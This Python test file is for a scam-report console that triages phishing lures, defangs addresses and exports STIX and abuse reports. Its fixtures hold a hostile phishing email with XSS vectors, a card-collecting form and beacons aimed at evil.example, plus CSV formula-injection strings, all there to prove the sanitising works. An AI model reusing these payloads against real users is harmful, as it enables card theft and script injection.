"""Scams in our name: the queue, one sighting, decisions and exports."""

from __future__ import annotations

import csv
import email
import email.policy
import io
import json
import re
from datetime import timedelta

import pytest
import stix2
from fixed_set import Screen, check, signed_in
from hypothesis import given
from hypothesis import strategies as st
from stix2patterns.validator import run_validator

from factories import NOW, make_brand
from forewarn.audit.rules import Actor
from forewarn.mail.reports.telling_apart import read_reports
from forewarn.sightings import actions, grouping
from forewarn.sightings.exporting.arf import abuse_report
from forewarn.sightings.models import Sighting
from forewarn.sightings.reporting import Lure, Told, add_report

pytestmark = pytest.mark.django_db
STAFF = Actor.staff(1, "Eve Stone")
TEXT = "<script>alert(1)</script> Your parcel waits. Pay 1.99 at https://lantern-parcel.example/pay?u=kim today, dear reader of ours."


@pytest.fixture
def brand():
    return make_brand("lantern", locales=["en", "es"])


def sighting(brand, source="a", **fields):
    values = {
        "subject": "Your <b>parcel</b> waits", "text": TEXT, "sender": "info@lantern-parcel.example", "wants": "money",
        "links": ("https://lantern-parcel.example/pay?u=kim", "=HYPERLINK(1)"), "hosts": ("lantern-parcel.example",), "locale": "en",
    } | fields  # fmt: skip
    return add_report(brand=brand, lure=Lure(**values), told=Told(source), now=NOW)


def post(brand, address, role="editor", **data):
    return signed_in(brand, role).post(f"/console/lantern/sightings/{address}", data)


def page(brand, address):
    answer = signed_in(brand, "editor").get(f"/console/lantern/sightings/{address}")
    assert answer.status_code == 200
    return answer.content.decode()


def test_every_screen_has_the_fixed_set(brand):
    found = sighting(brand)
    for screen in (
        Screen("sightings/", "viewer"),
        Screen("sightings/new/", "editor"),
        Screen(f"sightings/{found.pk}/", "viewer"),
        Screen(f"sightings/{found.pk}/export/csv/", "viewer"),
        Screen(f"sightings/{found.pk}/export/stix/", "viewer"),
        Screen(f"sightings/{found.pk}/export/arf/", "viewer"),
        Screen(f"sightings/{found.pk}/export/xarf/", "viewer"),
        Screen(f"sightings/{found.pk}/export/xarf-json/", "viewer"),
        Screen(f"sightings/{found.pk}/words/", "editor", post_only=True),
        Screen(f"sightings/{found.pk}/decide/", "editor", post_only=True),
    ):
        check(screen, brand)


def test_the_queue_and_its_empty_states(brand):
    assert "Nothing reported yet" in page(brand, "")
    sighting(brand)
    shown = page(brand, "")
    assert "Your &lt;b&gt;parcel&lt;/b&gt; waits" in shown
    assert "lantern-parcel[.]example" in shown
    assert "Nothing in this state fits" in page(brand, "?words=frost")
    assert "Nothing that was reported fits" in page(brand, "?words=frost&state=all")
    assert "None in this state" in page(brand, "?state=dismissed")
    post(brand, f"{Sighting.objects.get().pk}/decide/", step="dismiss")
    assert "Nothing waits" in page(brand, "")


def test_a_sighting_is_shown_as_text_with_dead_addresses(brand):
    shown = page(brand, f"{sighting(brand).pk}/")
    assert "&lt;script&gt;" in shown
    assert "<script>alert" not in shown
    assert 'href="https://lantern-parcel' not in shown
    assert "hxxps://lantern-parcel[.]example" in shown
    assert "we never ask for a payment by email" in shown  # proposed words


def test_confirming_publishes_and_needs_words(brand):
    found = sighting(brand)
    answer = post(brand, f"{found.pk}/words/", confirm="1", says_en="“Your parcel waits”")
    assert answer.status_code == 422
    shown = answer.content.decode()
    assert shown.count("Needed to confirm.") == 2  # at the two lines that miss
    assert 'value="“Your parcel waits”"' in shown
    assert shown.index("Not saved yet") < shown.index("One copy, as text")  # where the page opens
    words = {"says_en": "“Your parcel waits”", "wants_en": "a fee", "tell_en": "we never ask for a fee"}
    assert post(brand, f"{found.pk}/words/", confirm="1", **words).status_code == 302
    found.refresh_from_db()
    assert (found.state, found.words) == (
        "confirmed",
        {"en": {"says": "“Your parcel waits”", "wants": "a fee", "tell": "we never ask for a fee"}},
    )
    changed = post(brand, f"{found.pk}/words/", **{**words, "wants_en": "money"})
    assert changed.status_code == 422
    assert (
        post(brand, f"{found.pk}/words/", correction="Not a fee only.", **{**words, "wants_en": "money"}).status_code
        == 302
    )


def test_decisions_merge_and_split(brand):
    one = sighting(brand)
    other = sighting(
        brand,
        hosts=("x.test",),
        text="Points expire soon, dear reader of this letter of ours, look at them.",
        subject="Points",
    )
    sighting(brand, source="b")
    post(brand, f"{other.pk}/decide/", step="dismiss")
    post(brand, f"{other.pk}/decide/", step="reopen")
    post(brand, f"{other.pk}/decide/", step="merge", into=str(one.pk))
    other.refresh_from_db()
    assert other.state == "merged"
    assert "merged into another" in page(brand, f"{other.pk}/")
    report = one.told.order_by("pk").first()
    post(brand, f"{one.pk}/decide/", step="split", report=str(report.pk))
    assert Sighting.objects.count() == 3
    assert post(brand, f"{one.pk}/decide/", step="explode").status_code == 404
    assert post(brand, f"{one.pk}/decide/", step="merge", into="x").status_code == 404


def test_one_by_hand(brand):
    answer = post(
        brand,
        "new/",
        channel="call",
        subject="A bank desk calls",
        text="He says, dear Ana Ortiz, read me the code",
        numbers="+1 888 555 0100",
    )
    found = Sighting.objects.get()
    assert answer["Location"].endswith(f"/sightings/{found.pk}/")
    assert (found.channel, found.numbers) == ("call", ["885550100"])
    shown = page(brand, f"{found.pk}/")
    assert "by no customer so far; noted by your team" in shown
    assert "0 source" not in shown
    assert "own note" in page(brand, "")
    assert post(brand, "new/", channel="call", subject="", text="").status_code == 422


def test_an_abuse_report_counts_no_people_who_did_not_report(brand):
    found = sighting(brand)
    told = abuse_report(found, sender="abuse@lantern.example", host="", now=NOW).decode()
    assert "reported by 1 person." in told
    found.reports = 0
    told = abuse_report(found, sender="abuse@lantern.example", host="", now=NOW).decode()
    assert "found by ourselves." in told
    assert "0 people" not in told


def test_addresses_leave_defanged_and_as_no_formula(brand):
    found = sighting(brand)
    text = signed_in(brand, "viewer").get(f"/console/lantern/sightings/{found.pk}/export/csv/").content.decode()
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1][:2] == ["hxxps://lantern-parcel[.]example/pay", "lantern-parcel[.]example"]
    assert rows[2][0].startswith("'=")


def exported(brand, found, kind):
    return signed_in(brand, "viewer").get(f"/console/lantern/sightings/{found.pk}/export/{kind}/")


ODD = (
    "https://user:pw@evil.example:8443/a,b",
    "http://[2001:db8::1]:8080/x",
    "https://bücher.example/straße",
    'https://evil.example/"quoted"',
    "javascript:alert(1)",
    "+SUM(1)",
    "https://evil.example/" + "x" * 600,
)


def test_odd_addresses_leave_as_one_row_each_in_ascii(brand):
    found = sighting(brand, links=ODD)
    text = exported(brand, found, "csv").content.decode("ascii")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == len(ODD)
    shown = [row["address"] for row in rows]
    assert shown[:6] == [
        "hxxps://user:pw@evil[.]example:8443/a,b",
        "hxxp://[2001:db8::1]:8080/x",
        "hxxps://xn--bcher-kva[.]example/stra%C3%9Fe",
        'hxxps://evil[.]example/"quoted"',
        "javascript:alert(1)",
        "'+SUM(1)",
    ]
    assert rows[0]["host"] == "evil[.]example"
    assert not any(text.startswith(("=", "+", "-", "@")) for row in rows for text in row.values())


def test_a_table_is_offered_only_where_there_are_addresses(brand):
    found = sighting(brand, links=())
    assert "export/csv/" not in page(brand, f"{found.pk}/")
    assert exported(brand, found, "csv").status_code == 404
    assert exported(brand, found, "stix").status_code == 200


def test_what_was_dismissed_is_revoked_and_no_desk_is_told(brand):
    found = sighting(brand)
    before = {one["id"]: one for one in json.loads(exported(brand, found, "stix").content)["objects"]}
    actions.dismiss(sighting=found, by=STAFF, now=NOW + timedelta(hours=1))
    after = {one["id"]: one for one in json.loads(exported(brand, found, "stix").content)["objects"]}
    assert before.keys() == after.keys()
    assert {one["type"] for one in after.values() if not one.get("revoked")} == {"identity"}
    assert all(after[of]["modified"] > before[of]["modified"] for of in after if after[of].get("revoked"))
    assert [exported(brand, found, kind).status_code for kind in ("csv", "arf", "xarf", "xarf-json")] == [404] * 4
    shown = page(brand, f"{found.pk}/")
    assert "STIX bundle (revoked)" in shown and "abuse@" not in shown


def test_what_was_merged_is_handed_on_as_what_it_went_into(brand):
    one = sighting(brand, subject="One")
    other = sighting(
        brand, "b", subject="Other", text="Quite other words.", links=("https://fee.example/b",), hosts=("fee.example",)
    )
    grouping.merge(sighting=one, into=other, by=STAFF, now=NOW)
    for kind in ("csv", "stix"):
        assert exported(brand, one, kind).content == exported(brand, other, kind).content
    assert f"sighting-{other.pk}.csv" in exported(brand, one, "csv")["Content-Disposition"]


def test_an_export_says_the_same_again(brand):
    found = sighting(brand)
    assert exported(brand, found, "stix").content == exported(brand, found, "stix").content
    ids = {email.message_from_bytes(exported(brand, found, "arf").content)["Message-ID"] for _ in range(2)}
    assert len(ids) == 1


def test_the_ids_of_another_installation_are_others(brand):
    found = sighting(brand)
    before = json.loads(exported(brand, found, "stix").content)
    type(brand).objects.filter(pk=brand.pk).update(created_at=brand.created_at + timedelta(seconds=1))
    after = json.loads(exported(brand, found, "stix").content)
    assert not {one["id"] for one in before["objects"]} & {one["id"] for one in after["objects"]}


def test_nobody_who_is_not_a_criminal_is_an_indicator(brand):
    """A sender that anybody can write, our own above all, and hosts of everybody are no marks of a criminal."""
    found = sighting(
        brand,
        sender="service@lantern.example",
        links=("https://forms.gle/x", "http://192.0.2.7/pay"),
        hosts=("forms.gle", "192.0.2.7", "fee.example"),
    )
    bundle = stix2.parse(exported(brand, found, "stix").content.decode(), version="2.1")
    patterns = {one.pattern for one in bundle.objects if one["type"] == "indicator"}
    assert patterns == {
        "[url:value = 'https://forms.gle/x']",
        "[url:value = 'http://192.0.2.7/pay']",
        "[ipv4-addr:value = '192.0.2.7']",
        "[domain-name:value = 'fee.example']",
    }


def test_the_stix_bundle_is_of_form(brand):
    found = sighting(brand, links=("https://lantern-parcel.example/o'x",))
    url = f"/console/lantern/sightings/{found.pk}/export/stix/"
    bundle = json.loads(signed_in(brand, "viewer").get(url).content)
    assert bundle["type"] == "bundle"
    by_type = {one["type"] for one in bundle["objects"]}
    assert by_type == {"identity", "campaign", "indicator", "relationship"}
    ids = {one["id"] for one in bundle["objects"]}
    for one in bundle["objects"]:
        assert re.fullmatch(
            rf"{one['type']}--[0-9a-f]{{8}}-[0-9a-f]{{4}}-5[0-9a-f]{{3}}-[89ab][0-9a-f]{{3}}-[0-9a-f]{{12}}", one["id"]
        )
        assert one["spec_version"] == "2.1"
        assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z", one["created"])
        assert {one[name] for name in one if name.endswith("_ref")} <= ids
    patterns = [one["pattern"] for one in bundle["objects"] if one["type"] == "indicator"]
    assert r"[url:value = 'https://lantern-parcel.example/o\'x']" in patterns
    assert "[domain-name:value = 'lantern-parcel.example']" in patterns


def test_the_stix_bundle_is_read_by_the_library_of_the_standard(brand):
    found = sighting(
        brand,
        subject="Ihre Sendung wartet “jetzt” ☂",
        links=("https://lantern-parcel.example/o'x\\y", "https://xn--lntern-bua.example/ä b", "javascript:alert(1)"),
    )
    url = f"/console/lantern/sightings/{found.pk}/export/stix/"
    bundle = stix2.parse(signed_in(brand, "viewer").get(url).content.decode(), allow_custom=False, version="2.1")
    kinds = [one["type"] for one in bundle.objects]
    assert kinds.count("campaign") == kinds.count("identity") == 1
    assert kinds.count("indicator") == kinds.count("relationship") >= 5
    campaign = next(one for one in bundle.objects if one["type"] == "campaign")
    assert campaign.first_seen <= campaign.last_seen
    for one in bundle.objects:
        if one["type"] == "indicator":  # the pattern's grammar is checked when it is parsed
            assert run_validator(one.pattern, stix_version="2.1") == []


def test_the_abuse_report_is_read_by_an_arf_parser(brand):
    found = sighting(brand, subject="Ihre Sendung für Müller wartet")
    raw = signed_in(brand, "viewer").get(f"/console/lantern/sightings/{found.pk}/export/arf/").content
    [report] = list(read_reports(raw))
    assert report.feedback_type == "fraud"
    parsed = email.message_from_bytes(raw, policy=email.policy.default)
    assert (parsed.get_content_type(), parsed.get_param("report-type")) == ("multipart/report", "feedback-report")
    kinds = [part.get_content_type() for part in parsed.iter_parts()]
    assert kinds == ["text/plain", "message/feedback-report", "text/rfc822-headers"]
    assert parsed["To"] == "abuse@lantern-parcel.example"
    assert b"kim@" not in raw


def test_each_host_gets_what_it_can_take_down(brand):
    links = ("https://a.shop-fee.example/1", "https://b.shop-fee.example/2", "https://forms.gle/x")
    found = sighting(brand, links=links, hosts=("a.shop-fee.example", "forms.gle", "sender.example"))
    shown = page(brand, f"{found.pk}/")
    assert shown.index("abuse@shop-fee.example") < shown.index("abuse@forms.gle") < shown.index("abuse@sender.example")
    client = signed_in(brand, "viewer")
    url = f"/console/lantern/sightings/{found.pk}/export/arf/"
    raw = client.get(f"{url}?host=forms.gle").content
    assert b"abuse@forms.gle" in raw and b"Reported-URI: https://forms.gle/x" in raw
    assert b"shop-fee" not in raw.replace(b"shop-fee.example/pay", b"")
    assert b"abuse@shop-fee.example" in client.get(url).content
    for kind in ("arf", "xarf", "xarf-json"):
        other = url.replace("/arf/", f"/{kind}/")
        assert client.get(f"{other}?host=elsewhere.example").status_code == 404
    assert client.get(url.replace("/arf/", "/xarf/") + "?host=sender.example").status_code == 404  # nothing leads there
    report = json.loads(client.get(url.replace("/arf/", "/xarf-json/") + "?host=forms.gle").content)
    assert (report["url"], report["source_identifier"]) == ("https://forms.gle/x", "forms.gle")
    mail = client.get(url.replace("/arf/", "/xarf/") + "?host=forms.gle")
    assert mail["Content-Type"] == "message/rfc822" and mail["Content-Disposition"].endswith('forms.gle-xarf.eml"')


def test_queries_do_not_grow_with_the_list(brand, django_assert_max_num_queries):
    for letter in "abcdefghijklmnopqrst":
        sighting(
            brand,
            hosts=(f"{letter}.test",),
            subject=letter * 9,
            text=" ".join(f"{letter}{c}{c}" for c in "abcdefghijklmnop"),
        )
    client = signed_in(brand, "viewer")
    with django_assert_max_num_queries(40):
        client.get("/console/lantern/sightings/")
        client.get("/console/lantern/sightings/?state=all&words=lantern-parcel")


def test_a_merger_is_taken_back_on_the_page_of_what_went_in(brand):
    one = sighting(brand)
    other = sighting(brand, hosts=("x.test",), text="Points expire soon, dear reader of this letter.", subject="Points")
    post(brand, f"{other.pk}/decide/", step="merge", into=str(one.pk))
    assert "Merged into this one" in page(brand, f"{one.pk}/")
    assert "Take the merger back" in page(brand, f"{other.pk}/")
    post(brand, f"{other.pk}/decide/", step="unmerge")
    other.refresh_from_db()
    assert (other.state, other.merged_into) == ("waiting", None)
    assert "Merged into this one" not in page(brand, f"{one.pk}/")


@pytest.mark.parametrize("locale", ["en", "es", "fr", "de"])
def test_first_words_are_proposed_in_every_language(locale):
    from forewarn.console.sightings.wording import PROPOSED, WANTS

    assert PROPOSED[locale].keys() == WANTS.keys()
    assert all(wants and tell and max(len(wants), len(tell)) <= 160 for wants, tell in PROPOSED[locale].values())


def test_the_words_proposed_are_those_of_the_brands_languages(brand):
    shown = page(brand, f"{sighting(brand).pk}/")
    assert "nunca pedimos un pago por correo" in shown
    fields = {name: re.search(rf'<input[^>]*name="{name}"[^>]*>', shown)[0] for name in ("says_en", "says_es")}
    assert "parcel" in fields["says_en"] and "parcel" not in fields["says_es"]  # a quote is not translated


def test_no_tell_of_emails_is_proposed_for_a_call(brand):
    call = sighting(brand)
    call.channel = "call"
    call.save(update_fields=["channel"])
    shown = page(brand, f"{call.pk}/")
    assert "money or a gift card" in shown
    assert "by email" not in re.search(r'<input[^>]*name="tell_en"[^>]*>', shown)[0]


# -- the queue ----------------------------------------------------------------------------------------------------------


def another(brand, letter, at=NOW, **fields):
    """A lure that shares nothing with one of another letter."""
    values = {
        "subject": f"Parcel {letter * 9}", "text": " ".join(f"{letter}{c}{c}" for c in "abcdefghijklmnop"),
        "hosts": (f"{letter * 3}-host.example",), "sender": f"info@{letter * 3}-host.example", "wants": "link",
    } | fields  # fmt: skip
    return add_report(brand=brand, lure=Lure(**values), told=Told(letter, f"CASE{letter.upper()}234"), now=at)


def test_it_opens_on_what_waits_longest(brand):
    new, old, gone = (
        another(brand, letter, NOW - timedelta(days=days)) for letter, days in zip("xyz", (1, 3, 2), strict=True)
    )
    actions.dismiss(sighting=gone, by=STAFF, now=NOW)
    shown = page(brand, "")
    assert shown.index(old.subject) < shown.index(new.subject)
    assert gone.subject not in shown
    assert gone.subject in page(brand, "?state=dismissed")
    counts = re.findall(r'class="count">(\d+)<', shown)
    assert counts == ["2", "0", "1", "0", "3"]
    assert gone.subject not in page(brand, "?state=nonsense")  # opens on what waits


def test_what_was_taken_back_waits_since_then(brand):
    first = another(brand, "x", NOW - timedelta(days=9))
    second = another(brand, "y", NOW - timedelta(days=2))
    actions.dismiss(sighting=first, by=STAFF, now=NOW - timedelta(days=8))
    actions.reopen(sighting=first, by=STAFF, now=NOW - timedelta(days=1))
    shown = page(brand, "")
    assert shown.index(second.subject) < shown.index(first.subject)


@pytest.mark.parametrize(
    "words", ["xxx-host.example", "xxx-host[.]example", "hxxps://xxx-host[.]example/pay", "CASE-X234", "+1 (888) 555-0100", "XXXX"]
)  # fmt: skip
def test_one_is_found_by_what_staff_have_before_them(brand, words):
    found = another(brand, "x", numbers=("+1 888 555 0100",))
    other = another(brand, "y")
    shown = signed_in(brand, "viewer").get("/console/lantern/sightings/", {"words": words}).content.decode()
    assert found.subject in shown
    assert other.subject not in shown


def test_merged_ones_lead_to_the_one_they_went_into(brand):
    one, other = another(brand, "x"), another(brand, "y")
    grouping.merge(sighting=other, into=one, by=STAFF, now=NOW)
    shown = page(brand, "?state=merged")
    assert other.subject in shown
    assert f"/sightings/{one.pk}/" in shown


def test_every_page_of_a_long_queue_is_reached_once(brand):
    rows = [
        Sighting(brand=brand, channel="mail", subject=f"No. {n:03d}", began_at=at, first_seen=at, last_seen=at, reports=1)
        for n in range(120) for at in [NOW - timedelta(minutes=n // 7)]
    ]  # fmt: skip
    Sighting.objects.bulk_create(rows)
    seen = [name for number in (1, 2, 3) for name in re.findall(r"No\. \d{3}", page(brand, f"?page={number}"))]
    assert sorted(set(seen)) == [f"No. {n:03d}" for n in range(120)]
    assert len(seen) == 120
    assert "state=waiting" in page(brand, "?state=waiting&page=2").partition('rel="prev"')[2][:80]


# -- two at once --------------------------------------------------------------------------------------------------------

WORDS = {"says_en": "“Your parcel waits”", "wants_en": "a fee", "tell_en": "we never ask for a fee"}


def test_who_decides_on_an_old_page_is_told_and_loses_nothing(brand):
    found = sighting(brand)
    actions.dismiss(sighting=found, by=Actor.staff(9, "Ben Hale"), now=NOW)
    answer = post(brand, f"{found.pk}/words/", confirm="1", seen="0", **WORDS)
    shown = answer.content.decode()
    assert answer.status_code == 409
    assert "Ben Hale dismissed the report" in shown
    assert 'value="we never ask for a fee"' in shown
    found.refresh_from_db()
    assert (found.state, found.words) == ("dismissed", {})
    again = re.search(r'name="seen" value="(\d+)"', shown)[1]
    assert post(brand, f"{found.pk}/words/", confirm="1", seen=again, **WORDS).status_code == 302


def test_words_typed_beside_a_dismissal_that_came_too_late_are_kept(brand):
    found = sighting(brand)
    actions.publish(sighting=found, words={"en": {"says": "a", "wants": "b", "tell": "c"}}, by=STAFF, now=NOW)
    answer = post(brand, f"{found.pk}/decide/", step="dismiss", seen="0", **WORDS)
    shown = answer.content.decode()
    assert answer.status_code == 409
    assert 'value="we never ask for a fee"' in shown
    assert "Not saved yet" not in shown


def test_words_typed_for_one_that_was_merged_meanwhile_are_shown(brand):
    found, other = sighting(brand), another(brand, "y")
    grouping.merge(sighting=found, into=other, by=STAFF, now=NOW)
    answer = post(brand, f"{found.pk}/words/", seen="0", **WORDS)
    assert answer.status_code == 409
    assert "we never ask for a fee" in answer.content.decode()


@pytest.mark.parametrize("step", ["dismiss", "reopen", "merge", "split"])
def test_no_step_is_taken_from_an_old_page(brand, step):
    found, other = sighting(brand), another(brand, "y")
    sighting(brand, source="b")
    actions.write_words(sighting=found, words={"en": {"says": "x"}}, by=STAFF, now=NOW)
    report = found.told.first()
    answer = post(brand, f"{found.pk}/decide/", step=step, seen="0", into=str(other.pk), report=str(report.pk))
    assert answer.status_code == 409
    assert f'value="{report.pk}" checked' in answer.content.decode()
    assert set(Sighting.objects.values_list("state", flat=True)) == {"waiting"}


def test_nothing_is_merged_into_one_that_was_decided_meanwhile(brand):
    found, other = sighting(brand), another(brand, "y")
    assert f'<option value="{other.pk}.0">' in page(brand, f"{found.pk}/")
    actions.dismiss(sighting=other, by=Actor.staff(9, "Ben Hale"), now=NOW)
    answer = post(brand, f"{found.pk}/decide/", step="merge", seen="0", into=f"{other.pk}.0")
    assert answer.status_code == 409
    assert f"Ben Hale dismissed the report “<bdi>{other.subject}" in answer.content.decode()
    assert f'<option value="{other.pk}.1" selected>' in answer.content.decode()
    assert Sighting.objects.get(pk=found.pk).state == "waiting"
    assert post(brand, f"{found.pk}/decide/", step="merge", seen="0", into=f"{other.pk}.1").status_code == 302


def test_what_cannot_be_split_keeps_its_ticks(brand):
    found = sighting(brand)
    sighting(brand, source="b")
    every = [str(pk) for pk in found.told.values_list("pk", flat=True)]
    answer = post(brand, f"{found.pk}/decide/", step="split", report=every)
    shown = answer.content.decode()
    assert answer.status_code == 422
    assert "At least one report must stay" in shown
    assert len(re.findall(r'name="report" value="\d+" checked', shown)) == 2


def test_a_split_is_put_back(brand):
    found = sighting(brand)
    sighting(brand, source="b")
    report = found.told.first()
    made = post(brand, f"{found.pk}/decide/", step="split", report=str(report.pk))["Location"]
    new = Sighting.objects.get(split_from=found)
    assert made.endswith(f"/sightings/{new.pk}/")
    assert "Put its reports back there" in page(brand, f"{new.pk}/")
    assert post(brand, f"{new.pk}/decide/", step="merge", into=str(found.pk), seen="0").status_code == 302
    found.refresh_from_db()
    assert (found.reports, found.state) == (2, "waiting")


def test_a_language_that_is_not_whole_is_named_and_stops_nothing(brand):
    found, client = sighting(brand), signed_in(brand, "editor")
    address = f"/console/lantern/sightings/{found.pk}/words/"
    shown = client.post(address, {"confirm": "1", "says_es": "«Su paquete»", **WORDS}, follow=True).content.decode()
    assert "Not whole yet in Spanish" in shown
    found.refresh_from_db()
    assert found.state == "confirmed"
    whole = {"says_es": "«Su paquete»", "wants_es": "dinero", "tell_es": "nunca", "correction": "In Spanish, too."}
    assert "Not whole yet" not in client.post(address, {**whole, **WORDS}, follow=True).content.decode()


def test_the_public_page_never_loses_its_words(brand):
    found = sighting(brand)
    post(brand, f"{found.pk}/words/", confirm="1", **WORDS)
    answer = post(brand, f"{found.pk}/words/", correction="Shorter.", **{**WORDS, "tell_en": ""})
    assert answer.status_code == 422
    answer = post(brand, f"{found.pk}/words/", **{**WORDS, "tell_en": "we never ask for money"})
    assert "Say in one line what you corrected" in answer.content.decode()
    found.refresh_from_db()
    assert found.words["en"]["tell"] == WORDS["tell_en"]


def test_words_in_a_language_that_the_brand_gave_up_stay(brand):
    found = sighting(brand)
    actions.write_words(sighting=found, words={"fr": {"says": "x", "wants": "y", "tell": "z"}}, by=STAFF, now=NOW)
    post(brand, f"{found.pk}/words/", **WORDS)
    found.refresh_from_db()
    assert set(found.words) == {"en", "fr"}


def test_what_is_public_leads_to_its_page(brand):
    found = sighting(brand)
    assert "/scams/" not in page(brand, f"{found.pk}/")
    post(brand, f"{found.pk}/words/", confirm="1", **WORDS)
    shown = page(brand, f"{found.pk}/")
    assert "offered in the editor of the next alert" in shown
    assert f'href="https://{brand.public_host}/scams/"' in shown
    post(brand, f"{found.pk}/decide/", step="reopen")
    assert "it was taken off" in page(brand, f"{found.pk}/")


def test_a_viewer_sees_no_button(brand):
    found = sighting(brand)
    shown = signed_in(brand, "viewer").get(f"/console/lantern/sightings/{found.pk}/").content.decode()
    assert "<button" not in shown.partition('<main id="content"')[2].partition("</main>")[0]


# -- the copy in its frame ----------------------------------------------------------------------------------------------

HOSTILE = (
    b"From: Lantern <info@lantern-parcel.example>\r\nTo: kim@people.example\r\nSubject: Your parcel waits\r\n"
    b"MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
    b"<base href='https://evil.example/'><meta http-equiv=refresh content='0;url=https://evil.example/'>"
    b'<h1 style="color:red;background:url(https://evil.example/b.png);position:fixed" onclick=alert(1)>Pay now</h1>'
    b"<script>alert(1)</script><svg onload=alert(1)><a xlink:href='https://evil.example/s'>x</a></svg>"
    b"<style>@import url(https://evil.example/c.css)</style><img src=https://evil.example/p.png alt=Logo>"
    b"<img src='data:image/svg+xml,<svg onload=alert(1)>'><img src='data:image/gif;base64,R0lGODlhAQABAAAAACw='>"
    b"<form action=https://evil.example/f><input name=card><button>Go</button></form>"
    b"<a href='https://evil.example/pay?u=kim' ping=https://evil.example/ping target=_top>Pay</a>"
    b"<a href='jAvaScript:alert(1)'>x</a><iframe srcdoc='<script>alert(1)</script>'></iframe><math><mi//xlink:href='data:x'>"
)


def with_bytes(brand, raw=HOSTILE):
    """A sighting with the mail it came with."""
    from forewarn.intake.actions import receive
    from forewarn.intake.rules import Source

    receipt = receive(raw=raw, rcpt_to="check@mail.lantern.example", source=Source.UPLOAD, now=NOW)
    found = sighting(brand)
    Sighting.objects.filter(pk=found.pk).update(mail_id=receipt.mail_id)
    return found


def test_a_copy_is_shown_in_a_frame_that_does_nothing(brand):
    found = with_bytes(brand)
    assert 'sandbox loading="lazy" referrerpolicy="no-referrer"' in page(brand, f"{found.pk}/")
    check(Screen(f"sightings/{found.pk}/frame/", "viewer"), brand)
    answer = signed_in(brand, "viewer").get(f"/console/lantern/sightings/{found.pk}/frame/")
    policy, shown = answer["Content-Security-Policy"], answer.content.decode()
    assert policy.startswith("sandbox; default-src 'none';") and "unsafe-eval" not in policy
    assert "Pay now" in shown and "color:red" in shown.replace(" ", "") and 'alt="Logo"' in shown
    assert 'title="hxxps://evil[.]example/pay?u=kim"' in shown
    assert shown.count("<img") == 3 and shown.count("src=") == 1
    body = re.sub(r'title="[^"]*"', "", shown.partition("<body>")[2])
    assert not re.search(
        r"evil\.example|<(?:script|style|svg|math|form|input|button|iframe|base|meta|object|link)\b|\son\w+=|href|url\(|javascript:|ping=|target=|position",
        body,
        re.IGNORECASE,
    ), body


def test_without_html_or_bytes_there_is_no_frame(brand):
    plain = HOSTILE.partition(b"\r\n\r\n")[0].replace(b"text/html", b"text/plain") + b"\r\n\r\nPay now"
    for found in (sighting(brand), with_bytes(brand, plain)):
        assert "<iframe" not in page(brand, f"{found.pk}/")
        answer = signed_in(brand, "viewer").get(f"/console/lantern/sightings/{found.pk}/frame/")
        assert answer.status_code == 404


@given(st.text(alphabet="<>/=\"' \n&;:()abcdeonimgsrvhtpl\x00\ud7ff", max_size=200))
def test_whatever_a_lure_writes_nothing_of_it_can_act(source):
    from forewarn.console.sightings.showing import harmless

    body = harmless(f"<div {source}>{source}</div>").partition("<body>")[2]
    assert not re.search(r"<(?:script|style|svg|iframe|form|link|base|meta)\b", body, re.IGNORECASE)
    assert not re.search(r"<[^>]*\s(?:on\w+|href)\s*=", re.sub(r'"[^"]*"', '""', body), re.IGNORECASE)
